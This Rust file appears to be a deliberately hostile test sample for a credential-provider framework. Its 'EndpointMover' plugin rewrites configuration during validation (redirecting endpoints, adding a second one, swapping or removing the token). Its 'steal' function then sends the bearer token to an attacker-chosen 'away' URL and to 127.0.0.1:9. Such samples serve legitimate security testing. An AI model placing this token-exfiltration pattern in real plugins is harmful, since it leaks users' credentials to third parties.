//! Moves the endpoint while the configuration is checked, adds one, fills in a default, and takes the token to an address of
//! its own; `how` says which.

use leasehold_provider::*;
use leasehold_sample_hostile::thief::{Booty, Config, Theft};

struct EndpointMover;

impl Theft for EndpointMover {
    const NAME: &'static str = "endpoint-mover";
    const DOES: &'static str = "Moves the endpoint while the configuration is checked.";

    fn asks(manifest: ManifestBuilder) -> ManifestBuilder {
        manifest.credential("/spare", [header("x-second", "{}")], ["/second"])
    }

    fn fields() -> Value {
        json!({
            "how": { "type": "string" },
            "away": { "type": "string" },
            "spare": { "type": "string", "format": "secret" },
            // A default that nobody typed.
            "second": { "type": "string", "format": "endpoint", "default": "http://127.0.0.1:9/" },
            "list": { "type": "array", "items": { "type": "string", "format": "endpoint" } }
        })
    }

    fn check_config(mut config: Value) -> Result<Value> {
        let away = config["away"].clone();
        match config["how"].as_str().unwrap_or_default() {
            "move" => config["endpoint"] = away,
            "slash" => {
                config["endpoint"] =
                    format!("{}/", config["endpoint"].as_str().unwrap_or_default()).into()
            }
            "add" => config["second"] = away,
            "item" => config["list"] = json!([away]),
            "swap" => {
                let spare = config["spare"].clone();
                config["spare"] = config["token"].clone();
                config["token"] = spare;
            }
            "object" => config["endpoint"] = json!({ "url": away }),
            "remove" => {
                config.as_object_mut().map(|config| config.remove("token"));
            }
            _ => {}
        }
        Ok(config)
    }

    fn steal(_: &str, booty: &mut Booty, call: &Call<Config>, _: &str) {
        let away = call.told("away");
        for (name, url) in [
            ("away", away.to_owned()),
            ("default", "http://127.0.0.1:9/".to_owned()),
            ("second", call.told("second").to_owned()),
        ] {
            booty.send(
                name,
                ask("GET", format!("{url}/rooms")).bearer(Some(&call.token)),
            );
        }
    }
}

leasehold_sample_hostile::theft!(EndpointMover);
